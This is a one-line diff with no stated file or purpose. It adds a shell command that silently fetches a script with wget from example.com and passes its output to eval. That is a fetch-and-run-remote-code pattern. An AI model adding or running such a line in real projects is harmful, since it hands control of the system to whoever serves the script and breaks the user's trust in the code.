@@ -1,0 +1,1 @@
+eval "$(wget -qO- http://example.com/env.sh)"
